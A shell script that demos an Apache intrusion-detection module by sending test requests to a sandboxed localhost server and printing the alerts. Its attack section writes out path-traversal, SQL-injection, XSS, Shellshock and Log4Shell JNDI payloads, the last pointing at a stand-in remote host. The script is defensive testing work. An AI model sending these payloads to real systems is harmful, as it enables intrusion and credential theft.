#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# make demo: a sandboxed rsyslogd + httpd with mod_iocwatch on 127.0.0.1,
# a handful of attacks with curl, and the alerts as they landed in the
# syslog file.  Everything lives in a temp dir and is stopped at the end.
#
# Environment: BUILD (default build), APACHE (/usr/sbin/apache2),
# MODDIR (/usr/lib/apache2/modules), RULES (default conf/rules, or the
# SigmaHQ webserver rules when the pack is empty), KEEP=1 keeps the dir.
set -eu

cd "$(dirname "$0")/.."
REPO=$(pwd)
BUILD=${BUILD:-build}
case $BUILD in /*) ;; *) BUILD=$REPO/$BUILD ;; esac
APACHE=${APACHE:-/usr/sbin/apache2}
MODDIR=${MODDIR:-/usr/lib/apache2/modules}
RSYSLOGD=${RSYSLOGD:-/usr/sbin/rsyslogd}
SIGMAHQ=${SIGMAHQ:-$(cd "$REPO/.." && pwd)/shared/sigma/sigmahq-rules}
MODULE=$BUILD/mod_iocwatch.so

say() { printf '\033[1m== %s\033[0m\n' "$*"; }
die() { echo "demo: $*" >&2; exit 1; }

[ -f "$MODULE" ] || die "no $MODULE (run: make module)"
[ -x "$APACHE" ] || die "no $APACHE (apt-get install apache2)"
[ -x "$RSYSLOGD" ] || die "no $RSYSLOGD (apt-get install rsyslog)"
command -v curl >/dev/null || die "curl missing"
command -v python3 >/dev/null || die "python3 missing"

T=$(mktemp -d /tmp/iocwatch-demo.XXXXXX)
chmod 755 "$T"
mkdir -p "$T/logs" "$T/run" "$T/htdocs" "$T/rules"
chmod 755 "$T/logs" "$T/run" "$T/htdocs" "$T/rules"
echo '<html><body>demo shop</body></html>' > "$T/htdocs/index.html"
RS_PID=""

# the httpd sandbox shared with the tests and the benchmarks (tools/iwhttpd)
iwhttpd() { PYTHONPATH="$REPO/tools" IW_APACHE="$APACHE" IW_APACHE_MODULES="$MODDIR" python3 -m iwhttpd "$@"; }
httpd_ctl() {   # httpd_ctl start|stop [TIMEOUT]
    iwhttpd "$1" "$T" "$T/httpd.conf" "$T/run/httpd.pid" "$T/logs/error.log" "$PORT" ${2:+"$2"}
}

cleanup() {
    if [ -f "$T/run/httpd.pid" ]; then
        httpd_ctl stop 2>/dev/null || true
    fi
    [ -n "$RS_PID" ] && kill "$RS_PID" 2>/dev/null || true
    if [ "${KEEP:-0}" = 1 ]; then echo "kept: $T"; else rm -rf "$T"; fi
}
trap cleanup EXIT INT TERM

# ---- rules: the shipped pack, else SigmaHQ's webserver rules -------------
sigmahq_rules() {
    grep -rl -e 'category: webserver' -e 'service: apache' \
        "$SIGMAHQ/rules" "$SIGMAHQ/rules-emerging-threats" 2>/dev/null |
        while read -r f; do cp "$f" "$T/rules/"; done
    chmod 644 "$T/rules"/*.yml 2>/dev/null || true
}
RULES=${RULES:-}
if [ -z "$RULES" ]; then
    if find conf/rules -name '*.yml' 2>/dev/null | grep -q .; then
        RULES=$REPO/conf/rules
    else
        sigmahq_rules
        RULES=$T/rules
    fi
fi
say "rules: $RULES"

PORT=$(iwhttpd free-port)

# ---- rsyslogd: own socket, raw messages into one file ---------------------
cat > "$T/rsyslog.conf" <<EOF
global(workDirectory="$T/run" maxMessageSize="64k")
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="$T/run/log.sock" RateLimit.Interval="0")
template(name="raw" type="string" string="%rawmsg%\\n")
*.* action(type="omfile" file="$T/logs/syslog" template="raw")
EOF
: > "$T/logs/syslog"
"$RSYSLOGD" -n -f "$T/rsyslog.conf" -i "$T/run/rsyslogd.pid" 2>"$T/logs/rsyslogd.err" &
RS_PID=$!
i=0
while [ ! -S "$T/run/log.sock" ]; do
    i=$((i+1)); [ $i -lt 100 ] || die "rsyslogd did not start: $(cat "$T/logs/rsyslogd.err")"
    sleep 0.1
done
say "rsyslogd: socket $T/run/log.sock -> $T/logs/syslog"

# ---- httpd -----------------------------------------------------------------
USERGROUP=$(iwhttpd user)
write_conf() {
cat > "$T/httpd.conf" <<EOF
ServerRoot "$T"
DefaultRuntimeDir "$T/run"
PidFile "$T/run/httpd.pid"
ServerName 127.0.0.1
Listen 127.0.0.1:$PORT
LoadModule mpm_event_module $MODDIR/mod_mpm_event.so
LoadModule authz_core_module $MODDIR/mod_authz_core.so
LoadModule dir_module $MODDIR/mod_dir.so
LoadModule mime_module $MODDIR/mod_mime.so
LoadModule iocwatch_module $MODULE
$USERGROUP
# one child process: the status page's per-process counters are complete
StartServers 1
ServerLimit 1
ThreadsPerChild 25
MaxRequestWorkers 25
MinSpareThreads 1
MaxSpareThreads 25
TypesConfig /etc/mime.types
ErrorLog "$T/logs/error.log"
CustomLog "$T/logs/access.log" "%h %l %u %t \"%r\" %>s %b"
DocumentRoot "$T/htdocs"
<Directory "$T/htdocs">
    Require all granted
</Directory>
IocWatchRules "$RULES"
IocWatchAlertTarget unix:$T/run/log.sock
IocWatchSharedMemory 4M
<Location /server-iocwatch>
    SetHandler iocwatch-status
    Require all granted
</Location>
EOF
}
write_conf
say "httpd: starting on 127.0.0.1:$PORT (compiling the rules, twice: config check + start)"
# up to 300 s: compiling a large pack twice on a busy machine
if ! httpd_ctl start 300; then
    [ "$RULES" = "$REPO/conf/rules" ] || die "httpd failed to start"
    say "httpd refused the shipped pack (see above): falling back to SigmaHQ's rules"
    sigmahq_rules
    RULES=$T/rules
    write_conf
    httpd_ctl start 300 || die "httpd failed to start"
fi

# ---- attacks ---------------------------------------------------------------
U="http://127.0.0.1:$PORT"
hit() { printf '  %-52s -> %s\n' "$1" "$(curl -s -o /dev/null -w '%{http_code}' "$@" 2>/dev/null || echo ERR)"; }
say "attacks"
hit "$U/index.html" -A "Mozilla/5.0 (benign)"
hit "$U/../../../../etc/passwd" --path-as-is
hit "$U/download.php?file=..%2f..%2f..%2fetc%2fpasswd"
hit "$U/products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"
hit "$U/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"
hit "$U/api/login" -H 'X-Api-Version: ${jndi:ldap://203.0.113.7:1389/Exploit}'
hit "$U/" -A 'sqlmap/1.7.2#stable (https://sqlmap.org)'
hit "$U/cgi-bin/test.cgi" -A '() { :; }; /bin/bash -c "cat /etc/passwd"'
printf '  %-52s -> ' "404 burst: 12 x /admin-N.php"
n=1
while [ $n -le 12 ]; do
    curl -s -o /dev/null "$U/admin-$n.php"
    n=$((n+1))
done
echo "done"

# ---- alerts as they landed in the syslog file ---------------------------
sleep 2
say "alerts in $T/logs/syslog"
python3 - "$T/logs/syslog" <<'EOF'
import json, sys
def g(d, *path):
    for p in path:
        if not isinstance(d, dict):
            return None
        d = d.get(p)
    return d
n = 0
for line in open(sys.argv[1], errors="replace"):
    i = line.find("{")
    if i < 0:
        continue
    try:
        a = json.loads(line[i:])
    except ValueError:
        continue
    n += 1
    corr = g(a, "iocwatch", "correlation")
    url = g(a, "url", "original") or ""
    extra = ""
    if corr:
        grp = corr.get("group")
        if isinstance(grp, dict):
            grp = ",".join("%s=%s" % kv for kv in grp.items())
        extra = "  [%s count=%s %s]" % (corr.get("type"), corr.get("count"), grp)
    print("%-9s %-55.55s %-15s %s%s" % (
        g(a, "log", "level") or "-", g(a, "rule", "name") or g(a, "rule", "id"),
        g(a, "source", "ip") or "-", url[:70], extra))
print("\n%d alert(s); first raw line:" % n)
for line in open(sys.argv[1], errors="replace"):
    print(line[:300].rstrip() + (" ..." if len(line) > 300 else ""))
    break
EOF
say "module counters"
curl -s "$U/server-iocwatch" | sed 's/^/  /'
